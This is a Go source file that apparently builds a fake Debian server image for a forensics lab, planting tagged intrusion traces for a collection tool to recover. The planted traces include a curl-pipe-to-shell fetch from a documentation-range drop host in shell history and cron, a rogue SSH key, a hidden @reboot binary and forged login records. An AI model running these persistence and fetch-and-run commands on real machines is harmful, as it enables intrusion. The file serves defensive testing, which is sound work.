package guest

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"time"
)

// File is one file of the guest. The zero ModTime is the time of packing.
type File struct {
	Mode     fs.FileMode // permission, setuid, setgid and sticky bits
	UID, GID int
	ModTime  time.Time
	Data     []byte
}

// Trace is one line of the planted intrusion that a collection must bring back.
type Trace struct {
	Kind string // history, key, cron or log
	Path string // absolute, in the guest
	Line string // without its end
}

// Where the intruder came from, in addresses kept for documentation (RFC 5737).
const (
	intruderHost = "203.0.113.66"
	dropHost     = "198.51.100.23"
)

// intrusion returns the traces left in files. Each holds a tag made from the
// seed, so that no other boot of the guest has it.
func intrusion(seed []byte, hostname string, now time.Time) []Trace {
	sum := sha256.Sum256(append([]byte("quicklime lab traces v1\x00"), seed...))
	tag := hex.EncodeToString(sum[:6])
	stamp := now.Add(-40 * time.Minute).UTC().Format(time.Stamp)
	fetch := fmt.Sprintf("curl -fsSL http://%s/%s.sh | sh", dropHost, tag)
	return []Trace{
		{"history", "/root/.bash_history", fetch},
		{"history", "/home/admin/.bash_history", "sudo -i # " + tag},
		{"key", "/root/.ssh/authorized_keys", "ssh-ed25519 " + keyBlob(sum) + " backup@" + tag},
		{"cron", "/etc/cron.d/sysstat-update", "*/7 * * * * root " + fetch + " >/dev/null 2>&1"},
		{"cron", "/var/spool/cron/crontabs/root", "@reboot /tmp/.X11-unix/.cache/kworker # " + tag},
		{"log", "/var/log/auth.log", fmt.Sprintf("%s %s sshd[731]: Accepted password for admin from %s port 51122 ssh2 [%s]", stamp, hostname, intruderHost, tag)},
		{"log", "/var/log/syslog", fmt.Sprintf("%s %s CRON[902]: (root) CMD (%s >/dev/null 2>&1)", stamp, hostname, fetch)},
	}
}

// keyBlob is a public key in OpenSSH's form (RFC 8709); nobody has the private
// one.
func keyBlob(key [32]byte) string {
	var blob []byte
	for _, field := range []string{"ssh-ed25519", string(key[:])} {
		blob = binary.BigEndian.AppendUint32(blob, uint32(len(field)))
		blob = append(blob, field...)
	}
	return base64.StdEncoding.EncodeToString(blob)
}

// machineFiles are the honest files of a small Debian 12 server, with the
// traces put into the middle of those that they name.
func machineFiles(hostname string, traces []Trace, now time.Time) map[string]File {
	installed := now.Add(-30 * 24 * time.Hour)
	files := map[string]File{}
	add := func(path string, mode fs.FileMode, uid int, text string) {
		files[path] = File{Mode: mode, UID: uid, GID: uid, ModTime: installed, Data: []byte(text)}
	}
	add("/etc/hostname", 0o644, 0, hostname+"\n")
	add("/etc/hosts", 0o644, 0, "127.0.0.1 localhost\n127.0.1.1 "+hostname+"\n")
	add("/etc/resolv.conf", 0o644, 0, "nameserver 10.0.2.3\n")
	add("/etc/os-release", 0o644, 0, "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nVERSION=\"12 (bookworm)\"\nVERSION_CODENAME=bookworm\nID=debian\n")
	add("/etc/debian_version", 0o644, 0, "12.11\n")
	add("/etc/machine-id", 0o444, 0, "3f1d6a0c5e2b4d0f9a8b7c6d5e4f3a2b\n")
	add("/etc/passwd", 0o644, 0, "root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nadmin:x:1000:1000:Debian:/home/admin:/bin/sh\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n")
	add("/etc/group", 0o644, 0, "root:x:0:\ndaemon:x:1:\ntty:x:5:\nadm:x:4:admin\nsudo:x:27:admin\nwww-data:x:33:\nutmp:x:43:\nadmin:x:1000:\nnogroup:x:65534:\n")
	add("/etc/shadow", 0o640, 0, "root:*:20000:0:99999:7:::\nadmin:!:20000:0:99999:7:::\n")
	add("/etc/crontab", 0o644, 0, "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
	add("/etc/cron.d/e2scrub_all", 0o644, 0, "30 3 * * 0 root test -e /run/systemd/system || /usr/sbin/e2scrub_all\n")
	add("/etc/cron.d/sysstat-update", 0o644, 0, "# refresh of activity data\n")
	add("/etc/ssh/sshd_config", 0o644, 0, "PermitRootLogin no\nUsePAM yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n")
	add("/var/spool/cron/crontabs/root", 0o600, 0, "# m h dom mon dow command\n")
	add("/root/.bash_history", 0o600, 0, "apt-get update\nsystemctl status ssh\ndf -h\n")
	add("/root/.ssh/authorized_keys", 0o600, 0, "ssh-ed25519 "+keyBlob(sha256.Sum256([]byte("operations")))+" ops@example.org\n")
	add("/home/admin/.bash_history", 0o600, 1000, "ls\nuptime\ncat /etc/os-release\n")
	add("/home/admin/.profile", 0o644, 1000, "umask 022\n")
	add("/var/log/auth.log", 0o640, 0, logLines(now, hostname, "sshd[702]: Server listening on 0.0.0.0 port 22.", "sudo: admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/apt-get update"))
	add("/var/log/syslog", 0o640, 0, logLines(now, hostname, "systemd[1]: Started ssh.service - OpenBSD Secure Shell server.", "cron[611]: (CRON) INFO (Running @reboot jobs)"))
	add("/var/log/dpkg.log", 0o644, 0, installed.UTC().Format("2006-01-02 15:04:05")+" status installed base-files:amd64 12.4+deb12u11\n")
	add("/var/log/wtmp", 0o664, 0, string(loginRecord(now)))
	add("/run/utmp", 0o664, 0, string(loginRecord(now)))
	for _, t := range traces {
		f := files[t.Path]
		f.ModTime = now.Add(-40 * time.Minute)
		f.Data = insertLine(f.Data, t.Line)
		files[t.Path] = f
	}
	return files
}

func logLines(now time.Time, hostname string, lines ...string) string {
	var b strings.Builder
	for i, line := range lines {
		at := now.Add(time.Duration(i-60) * time.Minute).UTC().Format(time.Stamp)
		fmt.Fprintf(&b, "%s %s %s\n", at, hostname, line)
	}
	return b.String()
}

// insertLine puts line after the first line of text.
func insertLine(text []byte, line string) []byte {
	at := slices.Index(text, '\n') + 1
	return slices.Concat(text[:at], []byte(line+"\n"), text[at:])
}

// loginRecord is one struct utmp of x86-64 glibc (utmp(5), 384 bytes): admin on
// pts/0 from the intruder's address.
func loginRecord(now time.Time) []byte {
	const userProcess = 7
	r := make([]byte, 384)
	binary.LittleEndian.PutUint16(r[0:], userProcess)
	binary.LittleEndian.PutUint32(r[4:], 731)
	copy(r[8:40], "pts/0")
	copy(r[40:44], "ts/0")
	copy(r[44:76], "admin")
	copy(r[76:332], intruderHost)
	binary.LittleEndian.PutUint32(r[340:], uint32(now.Add(-40*time.Minute).Unix()))
	copy(r[348:352], []byte{203, 0, 113, 66})
	return r
}
